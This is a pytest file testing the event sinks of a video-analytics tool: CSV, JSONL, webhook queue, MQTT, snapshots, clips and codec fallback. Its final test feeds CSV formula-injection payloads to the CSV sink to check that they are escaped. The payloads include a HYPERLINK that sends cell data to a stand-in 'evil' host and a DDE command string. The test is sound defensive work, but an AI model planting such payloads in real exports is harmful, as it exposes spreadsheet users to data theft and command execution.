"""Event sinks (JSONL, CSV, webhook with disk queue, MQTT against a real broker) and visual outputs."""
import csv
import http.server
import json
import shutil
import socket
import subprocess
import threading
import time

import cv2
import numpy as np
import pytest

from pockit.config import OutputConfig, SinkConfig
from pockit.core import Detections, Event, Frame, read_events
from pockit.rules import RuleEngine
from pockit.sinks import ClipRecorder, SnapshotWriter, VideoWriterSink, WebhookSink, annotate, make_sinks


def ev(i, **kw):
    return Event(rule="r", type="zone_enter", source="cam", time=i * 0.5, frame=i, track_id=i, class_name="person",
                 bbox=[1, 2, 3, 4], zone="z", id=f"ev{i:03d}", **kw)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_jsonl_and_csv_flushed_per_event(tmp_path):
    out = OutputConfig(sinks=[SinkConfig(type="jsonl", fsync=True), SinkConfig(type="csv")])
    sinks = make_sinks(out, tmp_path)
    sinks[0].write(ev(1))
    sinks[1].write(ev(1, extra={"a": 1}))
    # readable before close (a crash would lose nothing already raised)
    assert [e.id for e in read_events(tmp_path / "events.jsonl")] == ["ev001"]
    rows = list(csv.DictReader(open(tmp_path / "events.csv")))
    assert rows[0]["id"] == "ev001" and rows[0]["x2"] == "3.0" and json.loads(rows[0]["extra"]) == {"a": 1}
    c = Event(rule="c", type="crowd", source="cam", time=1.0, frame=10, track_id=[1, 2], count=2)
    sinks[0].write(c)
    sinks[1].write(c)
    for s in sinks:
        s.close()
    assert read_events(tmp_path / "events.jsonl")[1].track_id == [1, 2]
    assert list(csv.DictReader(open(tmp_path / "events.csv")))[1]["track_id"] == "[1, 2]"


def test_unknown_sink_type_is_a_clear_error(tmp_path):
    with pytest.raises(ValueError, match="type"):  # rejected by the config schema before any sink starts
        SinkConfig(type="redis")
    with pytest.raises(ValueError, match="needs 'url'"):
        make_sinks(OutputConfig(sinks=[SinkConfig(type="webhook")]), tmp_path)


class _Recv(http.server.BaseHTTPRequestHandler):
    got: list = []

    def do_POST(self):  # noqa: N802
        body = self.rfile.read(int(self.headers["Content-Length"]))
        type(self).got.append(json.loads(body))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *a):
        pass


def test_webhook_survives_a_down_receiver(tmp_path):
    port = free_port()
    url = f"http://127.0.0.1:{port}/hook"
    qd = tmp_path / "queue"
    sink = WebhookSink(url, qd, timeout=0.5, retries=2, drain_timeout=0.5)
    for i in range(3):
        sink.write(ev(i))
    deadline = time.time() + 10
    while sink.failures == 0 and time.time() < deadline:
        time.sleep(0.05)
    assert sink.failures >= 1 and sink.pending == 3
    sink.close()  # receiver still down: events stay on disk
    assert len(list(qd.glob("*.json"))) == 3

    _Recv.got = []
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), _Recv)
    th = threading.Thread(target=srv.serve_forever, daemon=True)
    th.start()
    try:
        sink2 = WebhookSink(url, qd, timeout=2, retries=2)  # resends the queue, then new events
        sink2.write(ev(3))
        assert sink2.flush(15)
        sink2.close()
    finally:
        srv.shutdown()
    assert [g["id"] for g in _Recv.got] == ["ev000", "ev001", "ev002", "ev003"]
    assert _Recv.got[0]["class"] == "person" and list(qd.glob("*.json")) == []


def test_webhook_queue_is_bounded(tmp_path):
    # a full queue keeps the events already queued; the ones beyond queue_max go to dead_letter/ and are counted
    sink = WebhookSink(f"http://127.0.0.1:{free_port()}/", tmp_path / "q", timeout=0.2, retries=1, queue_max=2,
                       drain_timeout=0)
    for i in range(5):
        sink.write(ev(i))
    sink.close()
    assert sorted(p.read_text() for p in (tmp_path / "q").glob("*.json")) == sorted(ev(i).to_json() for i in (0, 1))
    dead = {p.stem: json.loads(p.read_text()) for p in (tmp_path / "q" / "dead_letter").glob("*.json")}
    assert sorted(dead) == ["ev002", "ev003", "ev004"]
    assert {d["kind"] for d in dead.values()} == {"overflow"} and dead["ev003"]["event"] == ev(3).to_dict()
    d = sink.delivery()
    assert (d["raised"], d["delivered"], d["pending"], d["dead_letter"], d["dropped"]) == (5, 0, 2, 0, 3)


@pytest.mark.broker
def test_mqtt_sink_against_a_real_mosquitto(tmp_path):
    exe = shutil.which("mosquitto") or ("/usr/sbin/mosquitto" if shutil.os.path.exists("/usr/sbin/mosquitto") else None)
    if exe is None:
        pytest.fail("mosquitto broker binary not found: install the Debian package 'mosquitto' "
                    "(apt-get install -y mosquitto)")
    mqtt = pytest.importorskip("paho.mqtt.client", reason="pip install 'pockit[sinks]'")
    port = free_port()
    conf = tmp_path / "m.conf"
    conf.write_text(f"listener {port} 127.0.0.1\nallow_anonymous true\npersistence false\n")
    proc = subprocess.Popen([exe, "-c", str(conf)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.05)
        got, subscribed = [], threading.Event()
        sub = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2)
        sub.on_connect = lambda c, u, f, rc, p: c.subscribe("site/events", qos=1)
        sub.on_subscribe = lambda *a: subscribed.set()
        sub.on_message = lambda c, u, m: got.append(json.loads(m.payload))
        sub.connect("127.0.0.1", port)
        sub.loop_start()
        assert subscribed.wait(5)
        sinks = make_sinks(OutputConfig(dir=str(tmp_path), sinks=[SinkConfig(type="mqtt", port=port, topic="site/events")]),
                           tmp_path / "run")
        for i in range(3):
            sinks[0].write(ev(i))
        sinks[0].close()
        deadline = time.time() + 5
        while len(got) < 3 and time.time() < deadline:
            time.sleep(0.05)
        sub.loop_stop()
        sub.disconnect()
        assert [g["id"] for g in got] == ["ev000", "ev001", "ev002"]
    finally:
        proc.terminate()
        proc.wait(5)


def _scene(i):
    img = np.full((240, 320, 3), 60, np.uint8)
    x = 40 + 10 * i
    dets = Detections(xyxy=[[x, 100, x + 20, 160]], track_ids=[4], class_ids=[0], class_names={0: "person"})
    return Frame(img, i, i / 10, "cam"), dets


def test_annotate_snapshot_and_clip(tmp_path):
    eng = RuleEngine([dict(type="line_crossing", name="gate", line=[[160, 0], [160, 240]]),
                      dict(type="zone_enter", name="yard", zone=[[200, 0], [320, 0], [320, 240], [200, 240]])],
                     "cam", frame_size=(320, 240))
    clips = ClipRecorder(tmp_path / "clips", seconds=1.0, fps=10, engine=eng)
    snaps = SnapshotWriter(tmp_path)
    video = VideoWriterSink(tmp_path / "video" / "cam.mp4", fps=10)
    raised = []
    for i in range(20):
        fr, d = _scene(i)
        evs = eng.update(fr, d, fr.timestamp, i)
        clips.push(fr, d)
        for e in evs:
            snaps.save(fr, d, e, eng)
            clips.trigger(e)
            raised.append(e)
        video.write(fr, d, eng)
    clips.close()
    video.close()
    assert [(e.rule, e.frame) for e in raised] == [("gate", 12), ("yard", 15)]  # anchor x = 50 + 10 i; on the line = neutral, on the zone edge = inside
    snap = cv2.imread(str(tmp_path / raised[0].snapshot))
    x = 40 + 10 * 12
    b, g, r = (int(v) for v in snap[130, x])
    assert r > 200 and g < 60 and b < 60  # the alarmed object's box edge is red (JPEG)
    assert raised[0].clip == f"clips/{raised[0].id}.mp4"
    cap = cv2.VideoCapture(str(tmp_path / raised[0].clip))
    assert cap.get(cv2.CAP_PROP_FRAME_COUNT) == 10  # 5 before + 5 from the event frame on
    cap = cv2.VideoCapture(str(tmp_path / "video" / "cam.mp4"))
    assert cap.get(cv2.CAP_PROP_FRAME_COUNT) == 20
    # annotate: non-alarmed box in its id colour, not red; the input image is untouched
    fr, d = _scene(0)
    out = annotate(fr.image, d)
    assert tuple(int(v) for v in out[130, 40]) == (0, 94, 213)  # palette colour of id 4 (RGB 213,94,0 as BGR) and fr.image.max() == 60


def test_snapshot_reds_only_the_events_own_object(tmp_path):
    # track 1 entered the zone first and stays in alarm (zone_enter holds while inside); track 2 enters later.
    # Track 2's snapshot must show track 2 red and track 1 in its normal colour, or the snapshot is ambiguous.
    eng = RuleEngine([dict(type="zone_enter", name="yard", zone=[[100, 0], [320, 0], [320, 240], [100, 240]])],
                     "cam", frame_size=(320, 240))
    img = np.full((240, 320, 3), 60, np.uint8)
    snaps = SnapshotWriter(tmp_path)
    raised = []
    for i in range(3):
        x2 = 60 + 40 * i  # track 2: anchor x = 70, 110 (inside at frame 1), 150
        d = Detections(xyxy=[[200, 40, 220, 100], [x2, 140, x2 + 20, 200]], track_ids=[1, 2], class_ids=[0, 0],
                       class_names={0: "person"})
        fr = Frame(img, i, i / 10, "cam")
        for e in eng.update(fr, d, fr.timestamp, i):
            snaps.save(fr, d, e, eng)
            raised.append(e)
    assert [(e.track_id, e.frame) for e in raised] == [(1, 0), (2, 1)]
    assert eng.alarmed["yard"] == {1, 2}  # both still in alarm when track 2's snapshot is taken
    snap = cv2.imread(str(tmp_path / raised[1].snapshot))
    b, g, r = (int(v) for v in snap[170, 100])  # left edge of track 2's box
    assert r > 200 and g < 60 and b < 60
    b, g, r = (int(v) for v in snap[70, 200])  # left edge of track 1's box: its id colour (RGB 0,158,115)
    assert r < 60 and g > 120
    # the live view (annotate with the engine) still shows every object in alarm red
    live = annotate(img, d, eng)
    assert tuple(int(v) for v in live[70, 200]) == (0, 0, 255)


def test_snapshot_labels_the_object_with_the_events_class(tmp_path):
    # min_frames 2 dates the event to the first frame inside (class 0 "Normal" there) but raises it on the next
    # frame, where the detector calls the same person class 1 "Fall": the snapshot must say "Normal" like the
    # event (issue 13: the first demo snapshot said "Fall" while the event said Normal)
    eng = RuleEngine([{"type": "zone_enter", "name": "yard", "zone": [[100, 0], [320, 0], [320, 240], [100, 240]],
                       "min_frames": 2}], "cam", frame_size=(320, 240))
    img = np.full((240, 320, 3), 60, np.uint8)
    names = {0: "Normal", 1: "Fall"}
    snaps = SnapshotWriter(tmp_path / "a")
    raised = []
    for i, (x, c) in enumerate([(40, 0), (120, 0), (160, 1)]):
        d = Detections(xyxy=[[x, 140, x + 40, 220]], track_ids=[7], class_ids=[c], class_names=names)
        fr = Frame(img, i, i / 10, "cam")
        for e in eng.update(fr, d, fr.timestamp, i):
            snaps.save(fr, d, e, eng)
            raised.append((e, fr, d))
    assert [(e.frame, e.class_name, e.extra) for e, _, _ in raised] == [(1, "Normal", {"raised_frame": 2})]
    e, fr, d = raised[0]
    got = (tmp_path / "a" / e.snapshot).read_bytes()
    same_class = Detections(xyxy=d.xyxy, track_ids=[7], class_ids=[0], class_names=names)
    SnapshotWriter(tmp_path / "b").save(fr, same_class, Event(**e.__dict__), eng)
    assert got == (tmp_path / "b" / e.snapshot).read_bytes()  # drawn as if the detector had said Normal
    # and the label matters: with no class on the event, each frame's own class is drawn, and they differ
    bare = Event(**{**e.__dict__, "class_name": None})
    SnapshotWriter(tmp_path / "c").save(fr, d, bare, eng)
    SnapshotWriter(tmp_path / "d").save(fr, same_class, bare, eng)
    assert (tmp_path / "c" / e.snapshot).read_bytes() != (tmp_path / "d" / e.snapshot).read_bytes()


def test_video_and_clips_are_browser_playable_h264(tmp_path, caplog):
    import logging

    import av

    from pockit.sinks import draw

    assert draw.pick_codec() == "h264"  # PyAV's wheel bundles libx264
    eng = RuleEngine([{"type": "zone_enter", "name": "yard", "zone": [[200, 0], [320, 0], [320, 240], [200, 240]]}],
                     "cam", frame_size=(320, 240))
    with caplog.at_level(logging.INFO, logger="pockit.sinks.draw"):
        clips = ClipRecorder(tmp_path / "clips", seconds=1.0, fps=7, engine=eng)
        video = VideoWriterSink(tmp_path / "video" / "cam.mp4", fps=7)
        raised = []
        for i in range(20):
            fr, d = _scene(i)
            video.write(fr, d, eng)
            clips.push(fr, d)
            for e in eng.update(fr, d, fr.timestamp, i):
                clips.trigger(e)
                raised.append(e)
        clips.close()
        video.close()
    assert f"alarm clips in {tmp_path / 'clips'}: codec h264" in caplog.text
    assert f"annotated video {tmp_path / 'video' / 'cam.mp4'}: codec h264" in caplog.text
    assert [e.clip for e in raised] == [f"clips/{raised[0].id}.mp4"]
    for path, n in ((tmp_path / "video" / "cam.mp4", 20), (tmp_path / raised[0].clip, 8)):
        with av.open(str(path)) as c:
            st = c.streams.video[0]
            assert (st.codec_context.name, st.codec_context.pix_fmt) == ("h264", "yuv420p")
            assert (st.average_rate, st.width, st.height) == (7, 320, 240)
            assert sum(1 for _ in c.decode(st)) == n  # 4 frames before the event + 4 from it on (1 s at 7 fps)


def test_video_codec_fallback_chain(tmp_path, monkeypatch):
    from pockit.sinks import draw

    # no H.264 encoder (a PyAV without libx264/libopenh264): VP8 in WebM, which Chromium and Firefox play
    monkeypatch.setitem(draw._usable, "h264", False)
    monkeypatch.setitem(draw._usable, "openh264", False)
    monkeypatch.setitem(draw._usable, "avc1", False)
    assert draw.pick_codec() == "vp8"
    video = VideoWriterSink(tmp_path / "cam.mp4", fps=10)
    fr, d = _scene(0)
    for _ in range(5):
        video.write(fr, d)
    video.close()
    assert video.path == tmp_path / "cam.webm" and not (tmp_path / "cam.mp4").exists()
    assert draw.video_mime(video.path) == "video/webm"
    assert cv2.VideoCapture(str(video.path)).get(cv2.CAP_PROP_FRAME_COUNT) in (5, 0)  # WebM may not say
    assert sum(1 for _ in _frames(video.path)) == 5
    monkeypatch.setitem(draw._usable, "vp8", False)
    assert draw.pick_codec() == "mp4v"
    monkeypatch.setitem(draw._usable, "mp4v", False)
    with pytest.raises(OSError, match=r"no usable video codec among \['h264', 'openh264', 'avc1', 'vp8', 'mp4v'\]"):
        draw.pick_codec()
    with pytest.raises(ValueError, match="unknown video codec 'x265'"):
        draw.codec_usable("x265")


def test_h264_pads_odd_frame_sizes(tmp_path):
    import av

    from pockit.sinks.draw import VideoFile

    vf = VideoFile(tmp_path / "odd.mp4", 10, (321, 239), "h264")
    for i in range(3):
        vf.write(np.full((239, 321, 3), 40 * i, np.uint8))
    vf.close()
    with av.open(str(tmp_path / "odd.mp4")) as c:
        st = c.streams.video[0]
        assert (st.width, st.height) == (322, 240) and sum(1 for _ in c.decode(st)) == 3


def _frames(path):
    cap = cv2.VideoCapture(str(path))
    while True:
        ok, f = cap.read()
        if not ok:
            break
        yield f


@pytest.mark.parametrize("scale", [0.45, 0.7, 1.5])
def test_text_halo_stays_on_the_letters(scale):
    # OpenCV advances glyphs further at thickness >= 2 than at 1: a thick halo under thin text drifted up to
    # ~20 px to the right of a 40-character label, garbling every snapshot title. The halo must end where the text ends.
    from pockit.sinks.draw import _text

    img = np.full((80, 1400, 3), 255, np.uint8)
    _text(img, "lamp_post_line (line_crossing) t=10.43s", (5, 50), (0, 0, 255), scale)
    red = np.flatnonzero(((img[..., 2] > 200) & (img[..., 1] < 80)).any(0))
    dark = np.flatnonzero((img.max(2) < 100).any(0))
    assert len(red) and len(dark)
    assert dark.max() - red.max() <= 3


def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    sink = make_sinks(OutputConfig(sinks=[SinkConfig(type="csv")]), tmp_path)[0]
    payloads = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                "\tTAB", "\rCR"]
    for i, p in enumerate(payloads):
        sink.write(Event(rule=p, type="zone_enter", source="cam", time=-1.5, frame=i, zone=p, id=f"x{i}"))
    sink.write(Event(rule="gate", type="zone_enter", source="cam", time=2.0, frame=9, id="ok"))
    sink.close()
    with open(tmp_path / "events.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["rule"] for r in rows] == ["'" + p for p in payloads] + ["gate"]
    assert [r["zone"] for r in rows[:6]] == ["'" + p for p in payloads]
    assert rows[0]["time"] == "-1.5" and rows[-1]["id"] == "ok"  # numbers stay numbers
    assert sink.delivery()["delivered"] == 7
